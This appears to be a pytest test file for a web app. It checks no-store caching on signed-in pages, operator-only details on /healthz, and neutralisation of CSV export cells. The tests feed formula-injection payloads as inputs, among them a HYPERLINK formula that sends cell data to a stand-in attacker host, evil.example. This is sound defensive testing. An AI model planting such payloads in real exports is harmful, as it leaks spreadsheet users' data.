"""What leaves the server privately: signed-in pages are never stored by HTTP caches, a CSV
export can't run formulas in a spreadsheet, and /healthz's details are for operators only."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest

from tests.conftest import submit

SIGNED_IN_PAGES = ["/today", "/account", "/reflect", "/progress", "/reminders", "/help", "/nowhere"]


@pytest.mark.parametrize("path", SIGNED_IN_PAGES)
def test_a_signed_in_page_is_never_stored_by_an_http_cache(client, user, path):
    response = client.get(path)
    assert response.headers["Cache-Control"] == "no-store"
    assert "Cookie" in response.headers.get("Vary", "")


@pytest.mark.parametrize("path", ["/", "/login", "/register", "/help", "/offline"])
def test_a_visitors_page_may_be_revalidated(client, path):
    assert client.get(path).headers["Cache-Control"] == "no-cache, private"


@pytest.mark.parametrize(
    "words",
    ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"],
)
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(client, user, words):
    assert submit(client, "/setbacks", {"what_happened": words, "learned": "=1+1"}).status_code == 302
    with zipfile.ZipFile(io.BytesIO(client.get("/account/export.csv.zip").data)) as archive:
        rows = list(csv.DictReader(io.StringIO(archive.read("setbacks.csv").decode())))
    stored = words.strip() if words[0] not in "\t\r" else words  # the form keeps what was typed
    [row] = rows
    assert row["learned"] == "'=1+1"
    assert row["what_happened"].startswith("'")
    assert row["what_happened"][1:].strip() == stored.strip()
    # JSON keeps the words exactly as written.
    [setback] = client.get("/api/export").get_json()["setbacks"]
    assert setback["learned"] == "=1+1"


def test_healthz_details_are_for_this_machine(client):
    body = client.get("/healthz").get_json()  # the test client comes from 127.0.0.1
    assert body["status"] == "ok" and "reminders" in body


def test_healthz_tells_others_only_the_status(client):
    response = client.get("/healthz", environ_base={"REMOTE_ADDR": "203.0.113.9"})
    assert response.status_code == 200
    assert response.get_json() == {"status": "ok"}


@pytest.mark.parametrize(
    ("authorization", "details"),
    [
        ("Bearer operator-secret-token", True),
        ("Bearer wrong", False),
        ("operator-secret-token", False),
        ("", False),
    ],
)
def test_healthz_details_with_the_operator_token(app, client, authorization, details):
    app.config["HEALTHZ_TOKEN"] = "operator-secret-token"
    try:
        response = client.get(
            "/healthz", headers={"Authorization": authorization}, environ_base={"REMOTE_ADDR": "203.0.113.9"}
        )
    finally:
        app.config["HEALTHZ_TOKEN"] = ""
    assert ("reminders" in response.get_json()) is details


def test_healthz_token_comes_from_the_environment(tmp_path):
    from webapp.config import load

    assert load(str(tmp_path), {"HEALTHZ_TOKEN": " t0ken "})["HEALTHZ_TOKEN"] == "t0ken"
    assert load(str(tmp_path), {})["HEALTHZ_TOKEN"] == ""
